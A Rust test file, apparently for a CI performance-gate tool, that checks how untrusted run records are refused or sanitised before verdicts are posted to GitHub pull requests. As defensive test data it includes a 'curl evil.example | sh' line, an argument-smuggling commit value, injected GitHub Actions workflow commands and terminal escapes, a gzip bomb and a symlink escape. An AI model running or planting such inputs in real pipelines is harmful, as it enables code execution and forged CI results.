//! Records of strangers: what of them counts, and what is refused.

use super::{MERGE, SHA, publish, refused, slow, stand_in_at};
use crate::github::job::{left, outputs};
use crate::support::records::Run;
use flate2::Compression;
use flate2::write::GzEncoder;
use perf_gate::record::{Acceptance, RunRecord};
use serde_json::{Value, json};
use std::fs;
use std::io::Write;

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).expect("packed");
    encoder.finish().expect("packed")
}

#[test]
fn a_verdict_is_on_the_pull_request_that_github_names() {
    let stand_in = stand_in_at(SHA);
    publish(&stand_in, &[("record.json", slow().json())]).run().exits(3);
    publish(&stand_in, &[("record.json", slow().json())]).run().exits(3);
    let state = stand_in.state();
    let said = state.said();
    assert_eq!(said.len(), 1, "the second edits the first");
    assert!(
        said[0].1.contains("slower") && said[0].1.contains(&SHA[..7]) && said[0].1.contains("/runs/77"),
        "{}",
        said[0].1
    );
}

#[test]
fn a_packed_record_counts_and_files_beside_it_do_not() {
    let stand_in = stand_in_at(SHA);
    let files = [
        ("record.json.gz", packed(&slow().json())),
        ("judgement.json", br#"{"verdict": "pass"}"#.to_vec()),
        ("report.md", b"all is well".to_vec()),
    ];
    publish(&stand_in, &files).run().exits(3);
    assert!(!stand_in.state().said()[0].1.contains("all is well"));
}

#[test]
fn what_a_record_says_of_itself_changes_nothing() {
    let stand_in = stand_in_at(SHA);
    stand_in.state().pull(99, ("evil/api", "x", MERGE), "main", "open");
    let mut run = slow().repository("evil/api").branch("x").event("push").began("2001-01-01T00:00:00Z");
    run = run.accepting(Acceptance {
        key: "latency.p95".parse().expect("a key"),
        up_to: 9.0,
        reason: "I may".to_owned(),
        owner: None,
        expires: None,
        commit: None,
    });
    run.0.identity.run = Some("99".to_owned());
    run.0.identity.call = vec!["curl evil.example | sh".to_owned()];
    let mut json: Value = serde_json::from_slice(&run.json()).expect("JSON");
    json["pull_request"] = json!(99);
    json["identity"]["pull"] = json!({"number": 99});
    publish(&stand_in, &[("record.json", json.to_string().into_bytes())]).run().exits(3);
    let state = stand_in.state();
    let body = state.said()[0].1;
    assert!(!body.contains("evil") && !body.contains("I may"), "{body}");
    assert!(stand_in.requests().iter().all(|request| !request.contains("/99")));
}

#[test]
fn what_is_damaged_too_large_or_of_something_else_is_refused() {
    let good = String::from_utf8(slow().json()).expect("text");
    let with = |change: fn(&mut RunRecord)| {
        let mut run = slow();
        change(&mut run.0);
        run.json()
    };
    let large = format!("{good}{}", " ".repeat(10_000_000));
    let of = format!("it is of {MERGE}, and the run was of {SHA}");
    refused("record.json", b"{\"version\": 1, \"win", "not a run record");
    refused("record.json", large.as_bytes(), "larger than");
    refused("record.json.gz", &packed(&vec![b' '; 300_000_000]), "larger than");
    refused("record.json", good.replace("\"seconds\":40.0", "\"seconds\":1e999").as_bytes(), "out of range");
    refused("record.json", &with(|record| record.seconds = -1.0), "plan cannot be");
    refused("record.json", &with(|record| record.windows[3].requests = u64::MAX), "window 3");
    refused("record.json", &with(|record| record.identity.change = None), &of);
    refused("record.json", &with(|record| record.identity.commit = Some("--output=x".into())), "no id");
    refused("record.json", &with(|record| record.scenario = "a\n::error::b".into()), "scenario a ::error::b");
}

#[test]
fn a_symbolic_link_is_not_followed() {
    let stand_in = stand_in_at(SHA);
    let gate = publish(&stand_in, &[]).at("", |folder| {
        fs::write(folder.join("other.json"), slow().json()).expect("written");
        std::os::unix::fs::symlink("../other.json", folder.join("measured/record.json")).expect("a link");
    });
    gate.run().exits(2).complains("symbolic link");
    assert!(stand_in.state().said().is_empty());
}

#[test]
fn little_that_takes_much_is_refused() {
    let with = |part: &str, value: Value| {
        let mut json: Value = serde_json::from_slice(&slow().json()).expect("JSON");
        *json.pointer_mut(part).expect("a part") = value;
        json.to_string().into_bytes()
    };
    let many = |number: usize, item: Value| Value::Array(vec![item; number]);
    refused("record.json", &with("/windows", many(2_101, json!({}))), "2101 windows, and 2100 are read");
    refused("record.json", &with("/windows/3/tasks", many(1_001, json!({}))), "1001 tasks");
    refused("record.json", &with("/plan/tasks", many(1_001, json!({}))), "1001 tasks");
    refused("record.json", &with("/source", many(50_000, json!(0))), "values in its scenario");
    // 3 digits up to a year in microseconds, in 60 characters.
    let claims = "HISTFAAAACB42pNpmSzMwMDAxAABzFCakYFBAcyw/wAV4QIAQV0Cpg==";
    refused("record.json", &with("/windows/3/latency", json!(claims)), "it is not laid out as ours are");
}

#[test]
fn numbers_that_cannot_be_are_refused_before_they_are_judged() {
    let with = |part: &str, value: Value| {
        let mut json: Value = serde_json::from_slice(&slow().json()).expect("JSON");
        *json.pointer_mut(part).expect("a part") = value;
        json.to_string().into_bytes()
    };
    refused("record.json", &with("/plan/expected_rate", json!(1e308)), "its plan cannot be");
    refused("record.json", &with("/environment/memory", json!(u64::MAX)), "its environment cannot be");
    refused("record.json", &with("/health/cpu_seconds", json!(-1)), "its generator's health cannot be");
    refused("record.json", &with("/windows/2/seconds", json!(1e-308)), "its window 2 cannot be");
    refused("record.json", &with("/windows/2/log_latency_sum", json!(1e308)), "its window 2 cannot be");
    refused("record.json", &with("/ending", json!({"interrupted": {"signal": 0}})), "there is no signal 0");
}

#[test]
fn not_more_is_looked_at_than_there_can_be() {
    let numbered = |number: usize, name: &str| -> Vec<(String, Vec<u8>)> {
        (0..number).map(|n| (format!("{n:04}/{name}"), b"{}".to_vec())).collect()
    };
    let limit = "not more than 20 records and 1000 files are looked at";
    for (files, why) in [
        (numbered(21, "record.json"), limit),
        (numbered(501, "x"), limit),
        (vec![("a/b/c/d/e/record.json".to_owned(), slow().json())], "too deep"),
    ] {
        let stand_in = stand_in_at(SHA);
        let files: Vec<(&str, Vec<u8>)> = files.iter().map(|(name, bytes)| (name.as_str(), bytes.clone())).collect();
        publish(&stand_in, &files).run().exits(2).complains(why).complains("no record of the scenario s counts");
        assert!(stand_in.state().said().is_empty());
    }
    let stand_in = stand_in_at(SHA);
    publish(&stand_in, &[("a/b/c/d/record.json", slow().json())]).run().exits(3);
}

#[test]
fn of_two_records_of_a_scenario_the_first_counts_and_a_second_is_told() {
    let stand_in = stand_in_at(SHA);
    let other = Run::new("d").latency(10.0).beside(10.0).commit(SHA);
    let files = [("a/record.json", slow().json()), ("b/record.json", other.json())];
    let outcome = publish(&stand_in, &files).run().exits(2);
    let outcome = outcome.complains("measured/b/record.json is refused: it is a second one of its scenario");
    assert!(outputs(&outcome)["record"].ends_with("/measured/a/record.json"));
    assert!(left(&outcome, "summary").starts_with("### 🔴 s"), "{}", left(&outcome, "summary"));
}

#[test]
fn what_a_log_says_of_a_record_is_one_line_and_no_command() {
    let stand_in = stand_in_at(SHA);
    let mut run = slow();
    run.0.scenario = "##[set-output name=verdict]pass\r\n::error::x\u{1b}[2J".to_owned();
    let file = "\n::warning::y ##[error]z/record.json";
    let outcome = publish(&stand_in, &[("record.json", run.json()), (file, slow().json())]).run().exits(2);
    let lines = || outcome.stderr.lines().filter(|line| line.contains("is refused"));
    assert_eq!(lines().count(), 1, "{}", outcome.stderr);
    assert!(!outcome.stderr.contains("##[") && !outcome.stderr.contains('\u{1b}'), "{}", outcome.stderr);
    assert!(!outcome.stderr.lines().any(|line| line.starts_with("::warning") || line.starts_with("::error::x")));
}
